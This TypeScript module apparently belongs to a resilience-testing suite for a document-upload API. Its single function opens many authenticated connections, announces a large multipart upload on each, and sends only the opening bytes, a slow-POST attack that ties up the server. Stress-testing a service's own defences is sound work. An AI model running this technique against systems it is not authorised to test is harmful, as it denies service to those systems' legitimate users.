import { HeldConnections, type Target } from "../held_connections.ts";

/** Begins uploads that never end: a large body is announced and only its first bytes are sent. */
export function holdUploads(
  target: Target,
  { token, count }: { token: string; count: number },
): Promise<HeldConnections> {
  const opening = {
    lines: [
      "POST /v1/documents HTTP/1.1",
      `authorization: Bearer ${token}`,
      "content-type: multipart/form-data; boundary=x",
      // Within the quota that the attacks run with: a larger one is refused before its body is read.
      "content-length: 900000",
    ],
    body: '--x\r\ncontent-disposition: form-data; name="file"; filename="a.txt"\r\n\r\na',
  };
  return HeldConnections.open(target, Array(count).fill(opening));
}
